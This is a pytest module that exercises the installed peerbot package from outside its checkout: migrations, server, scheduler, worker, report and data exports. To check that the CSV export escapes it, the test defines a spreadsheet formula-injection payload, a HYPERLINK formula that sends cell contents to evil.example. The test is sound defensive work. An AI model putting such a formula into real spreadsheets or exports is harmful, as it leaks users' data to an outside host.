"""peerbot as people install it: every command and process type of the installed wheel, run outside the checkout.

Runs only when PEERBOT_INSTALLED_BIN names the `bin` folder of a virtual environment that installed the built
wheel (.ci/run makes one); the suite's other tests run from the source tree and would not notice a file that
the package forgot. Uses TEST_DATABASE_URL like the rest of the suite (the worker's queue needs PostgreSQL).
"""

from __future__ import annotations

import csv
import http.client
import json
import os
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urlencode

import pytest
from slack_sdk.signature import SignatureVerifier
from sqlalchemy import text

from domain.pulses.seal import answer_key_from_secret
from storage.db import create_db_engine, create_session_factory
from tests.slackstub import SlackStub
from tests.support.clock import FakeClock
from tests.support.factories.report import HOME, evaluation_network, user
from tests.support.factories.resources import library_network, seed

INSTALLED = os.environ.get("PEERBOT_INSTALLED_BIN", "")
ROOT = Path(__file__).parents[2]
SECRET = "0123456789abcdef0123456789abcdef"
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'

pytestmark = pytest.mark.skipif(
    not INSTALLED, reason="set PEERBOT_INSTALLED_BIN to the bin folder of a venv with the built wheel installed"
)


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A working directory with nothing of the checkout in it (no .env, no templates, no migrations)."""
    return tmp_path_factory.mktemp("outside-the-checkout")


@pytest.fixture(scope="module")
def database(outside: Path) -> str:
    configured = os.environ.get("TEST_DATABASE_URL", "")
    if not configured.startswith("postgres"):
        return f"sqlite:///{outside / 'installed.db'}"
    engine = create_db_engine(configured)
    with engine.begin() as connection:  # an empty database: the installed migrations make every table
        connection.execute(text("DROP SCHEMA IF EXISTS public CASCADE"))
        connection.execute(text("CREATE SCHEMA public"))
    engine.dispose()
    return configured


def environment(outside: Path, database: str, slack: SlackStub | None = None, **extra: str) -> dict[str, str]:
    env = {"PATH": f"{INSTALLED}{os.pathsep}{os.environ['PATH']}", "HOME": str(outside), "DATABASE_URL": database}
    if slack is not None:
        env.update(SLACK_BOT_TOKEN=slack.bot_token, SLACK_SIGNING_SECRET=SECRET, SLACK_API_URL=slack.api_url)
    env.update(extra)
    return env  # no PYTHONPATH: only the installed package can be imported


def peerbot(*args: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(Path(INSTALLED) / "peerbot"), *args],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )


@contextmanager
def running(*args: str, env: dict[str, str], cwd: Path, ready: str) -> Iterator[list[str]]:
    """A long-running installed process, yielded once a line of its output contains ``ready``; then SIGTERM."""
    process = subprocess.Popen(
        [str(Path(INSTALLED) / "peerbot"), *args],
        env=env,
        cwd=cwd,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stderr is not None
    lines: list[str] = []
    deadline = time.monotonic() + 120
    for line in process.stderr:
        lines.append(line)
        if ready in line or time.monotonic() > deadline:
            break
    drain = threading.Thread(target=lambda: lines.extend(process.stderr or ()), daemon=True)
    drain.start()
    try:
        assert any(ready in line for line in lines), f"peerbot {' '.join(args)} did not get ready:\n{''.join(lines)}"
        yield lines
    finally:
        if process.poll() is None:
            process.terminate()
        process.wait(timeout=120)
        drain.join(timeout=5)
        process.stderr.close()


@pytest.fixture(scope="module")
def upgraded(outside: Path, database: str) -> str:
    done = peerbot("db", "upgrade", env=environment(outside, database), cwd=outside)
    assert done.returncode == 0, done.stderr
    assert "database is up to date" in done.stdout
    return database


def test_the_installed_package_is_imported_from_the_venv_not_the_checkout(outside: Path) -> None:
    found = subprocess.run(
        [str(Path(INSTALLED) / "python"), "-c", "import bot, rendering, storage; print(bot.__file__)"],
        env={"PATH": os.environ["PATH"]},
        cwd=outside,
        capture_output=True,
        text=True,
        check=True,
    )
    assert not Path(found.stdout.strip()).is_relative_to(ROOT)


def test_db_upgrade_makes_the_schema_from_the_installed_migrations(upgraded: str, outside: Path) -> None:
    again = peerbot("db", "upgrade", env=environment(outside, upgraded), cwd=outside)
    assert again.returncode == 0 and "database is up to date" in again.stdout


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _request(
    port: int, method: str, path: str, body: bytes = b"", headers: dict[str, str] | None = None
) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request(method, path, body=body, headers=headers or {})
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def test_serve_answers_health_checks_and_signed_slack_requests(upgraded: str, outside: Path, slack: SlackStub) -> None:
    port = _free_port()
    env = environment(outside, upgraded, slack, PORT=str(port), WEB_CONCURRENCY="1")
    with running("serve", env=env, cwd=outside, ready="Booting worker"):
        assert _request(port, "GET", "/healthz") == (200, b"ok\n")
        body = urlencode(
            {
                "team_id": "T0001",
                "channel_id": "CHOME",
                "user_id": "UMARIA",
                "command": "/peerbot",
                "text": "help",
                "response_url": "http://127.0.0.1:9/unused",
                "trigger_id": "t",
                "api_app_id": "A1",
            }
        ).encode()
        stamp = str(int(time.time()))
        headers = {
            "Content-Type": "application/x-www-form-urlencoded",
            "X-Slack-Request-Timestamp": stamp,
            "X-Slack-Signature": SignatureVerifier(SECRET).generate_signature(timestamp=stamp, body=body),
        }
        status, answer = _request(port, "POST", "/slack/events", body, headers)
        assert status == 200 and b"/peerbot setup" in answer


def test_clock_starts_its_scheduler(upgraded: str, outside: Path, slack: SlackStub) -> None:
    with running("clock", env=environment(outside, upgraded, slack), cwd=outside, ready="Scheduler started"):
        pass


def test_worker_starts_and_stops_cleanly(upgraded: str, outside: Path, slack: SlackStub) -> None:
    # On PostgreSQL it claims from the job queue; on SQLite it says there is nothing to do and idles.
    ready = "peerbot worker ready" if upgraded.startswith("postgres") else "Idling until stopped"
    with running("worker", env=environment(outside, upgraded, slack), cwd=outside, ready=ready):
        pass


@pytest.fixture(scope="module")
def seeded(upgraded: str) -> str:
    """The evaluation network (report, data export) and a library with a formula-looking title, written with the
    source tree's code into the database the installed migrations made (the same schema)."""
    engine = create_db_engine(upgraded)
    session_factory = create_session_factory(engine, answer_key=answer_key_from_secret(SECRET))
    with session_factory.begin() as session:
        evaluation_network(session)
    clock = FakeClock(datetime(2026, 1, 5, 15, 0, tzinfo=UTC))
    network = library_network(session_factory, clock)
    seed(session_factory, network, clock, title=FORMULA_TITLE, url="https://example.org/formula")
    engine.dispose()
    return upgraded


def test_report_writes_the_page_from_the_packaged_templates(seeded: str, outside: Path) -> None:
    out = outside / "report"
    done = peerbot(
        "report", "--network", HOME, "--from", "2024-01-01", "--to", "2025-12-31", "--out", str(out),
        env=environment(outside, seeded), cwd=outside,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "Northeast Learning Network" in page and "<svg" in page
    assert "Northeast Learning Network" in (out / "README.txt").read_text(encoding="utf-8")
    assert (out / "attendance_per_meeting.csv").exists()


def test_data_export_writes_what_names_the_person(seeded: str, outside: Path) -> None:
    target = outside / "person.json"
    done = peerbot("data", "export", "--user", user("VT", 1), "--out", str(target), env=environment(outside, seeded),
                   cwd=outside)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert user("VT", 1) in json.dumps(json.loads(target.read_text(encoding="utf-8")))


def test_resources_export_keeps_a_formula_looking_title_as_text(seeded: str, outside: Path) -> None:
    target = outside / "library.csv"
    done = peerbot("resources", "export", str(target), "--network", "CHOME", env=environment(outside, seeded),
                   cwd=outside)  # fmt: skip
    assert done.returncode == 0, done.stderr
    with target.open(newline="", encoding="utf-8") as rows:
        assert [row["title"] for row in csv.DictReader(rows)] == ["'" + FORMULA_TITLE]


def test_a_template_missing_from_the_installation_is_named_not_blamed_on_the_folder(seeded: str, outside: Path) -> None:
    located = subprocess.run(
        [str(Path(INSTALLED) / "python"), "-c", "import rendering.report as r; print(r.__file__)"],
        cwd=outside,
        capture_output=True,
        text=True,
        check=True,
    )
    template = Path(located.stdout.strip()).parent / "templates" / "report.html.j2"
    hidden = template.with_name("report.html.j2.hidden")
    template.rename(hidden)
    try:
        done = peerbot(
            "report", "--network", HOME, "--from", "2024-01-01", "--to", "2025-12-31", "--out", str(outside / "r2"),
            env=environment(outside, seeded), cwd=outside,
        )  # fmt: skip
    finally:
        hidden.rename(template)
    assert done.returncode == 1
    assert "missing the report template report.html.j2" in done.stderr and "reinstall" in done.stderr
    assert "cannot write" not in done.stderr and "Traceback" not in done.stderr
